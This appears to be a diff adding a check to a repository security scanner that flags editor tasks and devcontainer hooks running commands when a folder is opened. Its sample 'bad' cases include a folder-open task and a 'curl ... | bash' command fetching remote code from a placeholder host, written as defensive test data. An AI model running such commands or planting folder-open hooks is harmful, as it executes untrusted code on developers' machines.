@@ -1,0 +1,51 @@
+import type { RepositoryCheck } from '../../check.ts';
+import { dangerOf } from '../../knowledge/shell-danger.ts';
+
+/** What developers start all day: still a surprise, hardly an attack. */
+const USUAL = /^(?:npm|pnpm|yarn|bun|make|cargo|go|tsc|npx tsc|docker compose|poetry|uv|pip)\b/;
+
+export const check: RepositoryCheck = {
+  id: 'supply-chain-workspace-autorun',
+  title: 'Opening the folder runs a command',
+  severity: 'high',
+  kind: 'malice',
+  confidence: 'medium',
+  since: '0.1.0',
+  cwe: [829],
+  why: `
+    The editor starts the command as soon as the folder is opened and trusted: reading the code is enough to run it.
+    Attackers who send a repository as a job interview or a bug report rely on exactly this.`,
+  fix: 'Let people start the task themselves: remove `runOn: folderOpen`, or the command that runs on the host.',
+  over: 'repository',
+  examples: {
+    bad: [
+      {
+        '.vscode/tasks.json': `
+          {"tasks": [«{"label": "env", "command": "node .vscode/spell.js", "runOptions": {"runOn": "folderOpen"}}»]}`,
+      },
+      { '.devcontainer/devcontainer.json': '{«"initializeCommand": "curl -s https://cdn.example.net/i | bash"»}' },
+    ],
+    good: [
+      { '.vscode/tasks.json': '{"tasks": [{"label": "build", "command": "make"}]}' },
+      { '.devcontainer/devcontainer.json': '{"postCreateCommand": "npm ci"}' },
+    ],
+  },
+
+  *find(repository) {
+    for (const hook of repository.notesOf('hook')) {
+      const danger = dangerOf(hook.command);
+      const isOnHost = hook.event === 'editor folder open' || hook.event === 'devcontainer initializeCommand';
+      if (!isOnHost && !(hook.event.startsWith('devcontainer ') && danger?.isSure === true)) continue;
+      yield {
+        at: hook.at,
+        message: `Opening the folder runs "${hook.command}"${danger === undefined ? '' : `, which ${danger.does}`}.`,
+        confidence: confidenceOf(hook.command, danger?.isSure),
+      };
+    }
+  },
+};
+
+function confidenceOf(command: string, isSure: boolean | undefined): 'high' | 'medium' | 'low' {
+  if (isSure === true) return 'high';
+  return USUAL.test(command) ? 'low' : 'medium';
+}
